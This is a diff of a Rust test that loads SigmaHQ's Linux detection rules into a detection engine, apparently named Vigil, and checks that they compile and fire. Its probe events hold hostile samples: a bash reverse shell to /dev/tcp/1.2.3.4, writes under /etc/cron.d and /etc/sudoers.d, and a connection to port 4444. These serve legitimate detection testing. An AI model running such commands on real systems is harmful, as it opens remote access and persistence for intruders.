@@ -1,12 +1,15 @@
 //! SigmaHQ's Linux rules, loaded file by file from the shared checkout (never copied into
-//! the project): every process_creation rule must compile or fail with a positioned
-//! "unsupported feature" error, rules of other log sources must load as skipped, and at
-//! least 80% of the process_creation rules must compile.
+//! the project): every rule parses; every rule of a category Vigil supports compiles; the
+//! rest (auditd and syslog services) load as unsupported with a reason. The counts are
+//! printed per category and reason, and asserted.
 
 use std::fs;
 use std::path::{Path, PathBuf};
 
-use vigil_detect::{sample_exec_event, RuleSet};
+use std::collections::BTreeMap;
+
+use vigil_detect::{sample_event, sample_exec_event, Category, RuleSet};
+use vigil_proto::EventAction;
 
 fn yaml_files(dir: &Path, out: &mut Vec<PathBuf>) {
     let mut entries: Vec<PathBuf> = fs::read_dir(dir)
@@ -38,6 +41,10 @@ fn sigmahq_linux_rules_load() {
     }
     let mut files = Vec::new();
     yaml_files(&dir, &mut files);
+    let hunting = dir.join("../../rules-threat-hunting/linux");
+    if hunting.is_dir() {
+        yaml_files(&hunting, &mut files);
+    }
     assert!(!files.is_empty(), "no rule files under {}", dir.display());
 
     let probe = sample_exec_event(&[
@@ -47,21 +54,39 @@ fn sigmahq_linux_rules_load() {
     ])
     .expect("probe event fields are known");
 
-    let (mut process_creation, mut compiled, mut skipped) = (0, 0, 0);
+    // Per category: rules that compiled; plus every skipped rule with its reason.
+    let mut compiled_by_category: BTreeMap<String, usize> = BTreeMap::new();
+    let mut skipped: BTreeMap<String, usize> = BTreeMap::new();
     let mut unsupported_features = Vec::new();
     let mut broken = Vec::new();
     for file in &files {
         let text = fs::read_to_string(file)
             .unwrap_or_else(|e| panic!("cannot read {}: {e}", file.display()));
-        let is_process_creation = text.contains("category: process_creation");
-        process_creation += usize::from(is_process_creation);
+        let category = text
+            .lines()
+            .find_map(|l| l.trim().strip_prefix("category:"))
+            .map(|c| c.trim().to_owned());
+        let supported = category
+            .as_deref()
+            .is_some_and(|c| Category::named(c).is_some());
         match RuleSet::load(&[file]) {
             Ok(set) => {
-                compiled += set.len();
-                skipped += set.unsupported().len();
-                if is_process_creation && set.is_empty() {
+                for rule in set.rules() {
+                    *compiled_by_category
+                        .entry(rule.category().name.to_owned())
+                        .or_default() += 1;
+                }
+                for skip in set.unsupported() {
+                    assert!(
+                        !skip.why.is_empty(),
+                        "{}: skipped without a reason",
+                        file.display()
+                    );
+                    *skipped.entry(skip.why.clone()).or_default() += 1;
+                }
+                if supported && set.is_empty() {
                     broken.push(format!(
-                        "{}: process_creation rule was skipped",
+                        "{}: rule of a supported category was skipped",
                         file.display()
                     ));
                 }
@@ -74,31 +99,65 @@ fn sigmahq_linux_rules_load() {
             Err(e) => broken.push(e.to_string()),
         }
     }
+    let compiled: usize = compiled_by_category.values().sum();
+    let skipped_total: usize = skipped.values().sum();
     eprintln!(
-        "SigmaHQ linux: {compiled}/{process_creation} process_creation rules compile \
-         ({:.1}%), {} use unsupported features, {skipped} rules of other log sources skipped, \
-         {} files",
-        100.0 * compiled as f64 / process_creation.max(1) as f64,
-        unsupported_features.len(),
-        files.len()
+        "SigmaHQ linux: {} files, {compiled} rules compile, {skipped_total} skipped as unsupported, \
+         {} use unsupported features",
+        files.len(),
+        unsupported_features.len()
     );
+    for (category, n) in &compiled_by_category {
+        eprintln!("  compiled {category}: {n}");
+    }
+    for (why, n) in &skipped {
+        eprintln!("  skipped {n}: {why}");
+    }
     for line in &unsupported_features {
-        eprintln!("  unsupported: {line}");
+        eprintln!("  unsupported feature: {line}");
     }
     assert!(
         broken.is_empty(),
         "rules that failed for other reasons:\n{}",
         broken.join("\n")
     );
+    // Every file is accounted for: compiled, skipped with a reason, or a positioned
+    // unsupported-feature error (none today).
     assert!(
-        compiled * 5 >= process_creation * 4,
-        "only {compiled} of {process_creation} process_creation rules compile (need 80%)"
+        unsupported_features.is_empty(),
+        "every rule of a supported category compiles"
+    );
+    assert_eq!(
+        compiled + skipped_total,
+        files.len(),
+        "one rule per SigmaHQ file"
+    );
+    assert_eq!(
+        compiled_by_category.get("process_creation").copied(),
+        Some(124),
+        "all SigmaHQ process_creation rules compile"
+    );
+    assert!(
+        compiled_by_category.get("file_event").copied().unwrap_or(0) >= 10,
+        "SigmaHQ file_event rules compile: {compiled_by_category:?}"
+    );
+    assert!(
+        compiled_by_category
+            .get("network_connection")
+            .copied()
+            .unwrap_or(0)
+            >= 5,
+        "SigmaHQ network_connection rules compile: {compiled_by_category:?}"
     );
 
-    // The whole folder loads in one go too (ids are unique, nothing aborts the load) when no
-    // rule needs an unsupported feature, and real rules fire on what they describe.
-    if unsupported_features.is_empty() {
-        let set = RuleSet::load(&[&dir]).unwrap_or_else(|e| panic!("loading the folder: {e}"));
+    // The whole folder loads in one go too (ids are unique, nothing aborts the load), and
+    // real rules fire on what they describe.
+    {
+        let mut dirs = vec![dir.clone()];
+        if hunting.is_dir() {
+            dirs.push(hunting.clone());
+        }
+        let set = RuleSet::load(&dirs).unwrap_or_else(|e| panic!("loading the folder: {e}"));
         assert_eq!(
             set.len(),
             compiled,
@@ -111,12 +170,85 @@ fn sigmahq_linux_rules_load() {
                 .map(|r| r.info().id.clone())
                 .collect()
         };
+        // The indexed matcher agrees with evaluating every rule on SigmaHQ's rules too.
+        let probes = [
+            sample_exec_event(&[
+                ("Image", "/usr/bin/bash"),
+                ("CommandLine", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"),
+            ]),
+            sample_exec_event(&[("Image", "/usr/bin/base64"), ("CommandLine", "base64 -d x")]),
+            sample_exec_event(&[
+                ("Image", "/usr/bin/chmod"),
+                ("CommandLine", "chmod +x /tmp/x"),
+            ]),
+            sample_exec_event(&[("Image", "/usr/bin/crontab"), ("CommandLine", "crontab -l")]),
+            sample_event(EventAction::Open, &[("TargetFilename", "/etc/sudoers.d/x")]),
+            sample_event(
+                EventAction::Connect,
+                &[("Image", "/bin/bash"), ("DestinationIp", "8.8.8.8")],
+            ),
+        ];
+        for probe in probes {
+            let event = probe.expect("fields are known");
+            let indexed: Vec<&str> = set
+                .matches(&event)
+                .iter()
+                .map(|r| r.info().id.as_str())
+                .collect();
+            let linear: Vec<&str> = set
+                .rules()
+                .filter(|r| r.matches(&event))
+                .map(|r| r.info().id.as_str())
+                .collect();
+            assert_eq!(indexed, linear, "index and full evaluation disagree");
+        }
         let interactive = fired(&[("Image", "/usr/bin/bash"), ("CommandLine", "bash -i >& x")]);
         assert!(
             interactive.contains(&"6104e693-a7d6-4891-86cb-49a258523559".to_owned()),
             "SigmaHQ 'Bash Interactive Shell' should fire: {interactive:?}"
         );
         let decode = fired(&[("Image", "/usr/bin/base64"), ("CommandLine", "base64 -D x")]);
+        let cron = set
+            .matches(
+                &sample_event(
+                    EventAction::Open,
+                    &[
+                        ("Image", "/usr/bin/vi"),
+                        ("TargetFilename", "/etc/cron.d/evil"),
+                    ],
+                )
+                .expect("fields are known"),
+            )
+            .len();
+        assert!(
+            cron >= 1,
+            "SigmaHQ file_event cron rule should fire on /etc/cron.d/evil"
+        );
+        let callback = set
+            .matches(
+                &sample_event(
+                    EventAction::Connect,
+                    &[
+                        ("DestinationIp", "203.0.113.9"),
+                        ("DestinationPort", "4444"),
+                    ],
+                )
+                .expect("fields are known"),
+            )
+            .len();
+        let local = set
+            .matches(
+                &sample_event(
+                    EventAction::Connect,
+                    &[("DestinationIp", "10.1.2.3"), ("DestinationPort", "4444")],
+                )
+                .expect("fields are known"),
+            )
+            .len();
+        assert!(
+            callback >= 1 && local == 0,
+            "SigmaHQ malware-callback-port rule uses |cidr to leave out private ranges: {callback} {local}"
+        );
         assert!(
             decode.contains(&"e2072cab-8c9a-459b-b63c-40ae79e27031".to_owned()),
             "SigmaHQ 'Decode Base64 Encoded Text' (case-insensitive `-d`) should fire: {decode:?}"
